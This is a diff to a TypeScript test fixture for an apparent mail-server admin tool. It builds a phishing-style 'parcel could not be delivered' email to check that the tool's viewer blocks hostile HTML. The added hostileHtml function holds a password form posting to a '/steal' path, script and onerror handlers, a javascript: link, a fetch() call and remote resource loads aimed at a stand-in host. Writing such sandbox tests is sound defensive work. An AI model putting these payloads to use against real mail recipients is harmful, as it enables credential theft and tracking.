@@ -37,32 +37,48 @@ const GMAIL = attempt(
 );
 const SLOWED = "4.7.28 Gmail has detected an unusual rate of mail originating from your IP address [198.51.100.7]";
 
-/** Of the mail that arrived here: what a thief, a joker or a broken program may send. */
-export const HOSTILE_HTML = `<html><head><base href="http://evil.example/"><style>@import "http://evil.example/x.css"; p { background: url(http://evil.example/bg.png) }</style></head>
-<body onload="parent.document.title='owned'"><h1>Your parcel could not be delivered</h1><img src="http://evil.example/pixel.png" onerror="top.stolen=1">
-<script>top.stolen = 1; document.title = "owned"</script><iframe src="http://evil.example/frame"></iframe>
-<form action="http://evil.example/steal"><input name="password"><button>Confirm</button></form>
-<a href="javascript:top.stolen=1">Track</a> <p>Pay the fee today.</p></body></html>`;
+const TAKEN_OVER = "looks taken over: 13 of 25 had no mailbox";
 
-const HELD_CONTENT = [
-  "From: Parcel service <shop3@shop-mueller.example>",
-  "To: somebody@example.org",
-  "Subject: Your parcel =?utf-8?B?4oCu?=could not be delivered",
-  "Date: Tue, 3 Mar 2026 10:31:02 +0100",
-  "MIME-Version: 1.0",
-  'Content-Type: multipart/alternative; boundary="b"',
-  "",
-  "--b",
-  "Content-Type: text/plain; charset=utf-8",
-  "",
-  "Your parcel could not be delivered. Pay the fee at http://parcel-upd.example/x?id=1 today.",
-  "--b",
-  "Content-Type: text/html; charset=utf-8",
-  "",
-  HOSTILE_HTML,
-  "--b--",
-  "",
-].join("\r\n");
+/** Leads to this machine in the tests' browser, so that it can be seen who goes there. */
+const ELSEWHERE = "http://elsewhere.example";
+
+/** What a thief, a joker or a broken program may send; it asks `port` for all that a page can ask for. */
+function hostileHtml(port: number): string {
+  const there = `${ELSEWHERE}:${port}`;
+  return `<html><head><base href="${there}/"><meta http-equiv="refresh" content="1;url=${there}/refreshed">
+<link rel="stylesheet" href="${there}/a.css"><link rel="preconnect" href="${there}"><link rel="prefetch" href="${there}/later">
+<style>@import "${there}/x.css"; p { background: url(${there}/bg.png) }</style></head>
+<body onload="parent.document.title='owned'"><h1>Your parcel could not be delivered</h1>
+<img src="${there}/pixel.png" onerror="top.stolen=1"><video src="${there}/v.mp4" autoplay></video><object data="${there}/o"></object>
+<script>top.stolen = 1; document.title = "owned"; fetch("${there}/run")</script><iframe src="${there}/frame"></iframe>
+<form action="${there}/steal"><input name="password"><button>Confirm</button></form>
+<a href="javascript:top.stolen=1">Track</a> <a href="${there}/click" target="_top">Pay here</a> <p>Pay the fee today.</p></body></html>`;
+}
+
+/** Text that is harmless, HTML that is not. */
+export function hostileMail(port: number): Uint8Array {
+  return new TextEncoder().encode(
+    [
+      "From: Parcel service <shop3@shop-mueller.example>",
+      "To: somebody@example.org",
+      "Subject: Your parcel =?utf-8?B?4oCu?=could not be delivered",
+      "Date: Tue, 3 Mar 2026 10:31:02 +0100",
+      "MIME-Version: 1.0",
+      'Content-Type: multipart/alternative; boundary="b"',
+      "",
+      "--b",
+      "Content-Type: text/plain; charset=utf-8",
+      "",
+      "Your parcel could not be delivered. Pay the fee at http://parcel-upd.example/x?id=1 today.",
+      "--b",
+      "Content-Type: text/html; charset=utf-8",
+      "",
+      hostileHtml(port),
+      "--b--",
+      "",
+    ].join("\r\n"),
+  );
+}
 
 /** What is told of it, besides the deliveries. */
 export class TuesdayNode extends ActingNode {
@@ -136,7 +152,7 @@ export function tuesday(rows = 60): Tuesday {
   const held = Array.from({ length: 32 }, (_, i) => addHeld(node, i));
   const delivered = addDelivered(node, "anna@kanzlei-m.example", "k.roth@gmail.com", 3, 1900);
   node.contentOf = async function* () {
-    yield new TextEncoder().encode(HELD_CONTENT);
+    yield hostileMail(9);
   };
   addSurroundings(node);
   return { node, late, delivered, bounced, many, held };
@@ -217,7 +233,10 @@ function addHeld(node: TuesdayNode, i: number): MessageKey {
       source: "srv7",
       tenant: "mueller-hosting",
     },
-    to: [{ address: `person${i}@example.org`, state: "held", why: "looks taken over: 13 of 25 had no mailbox" }],
+    to: [{ address: `person${i}@example.org`, state: "held", why: TAKEN_OVER }],
+    events: [
+      { at: ago(20.9 - i * 0.1), rcpt: 0, body: { kind: "held", why: TAKEN_OVER, by: { kind: "operator", id: "ann" }, action: 101 } },
+    ],
   });
 }
 
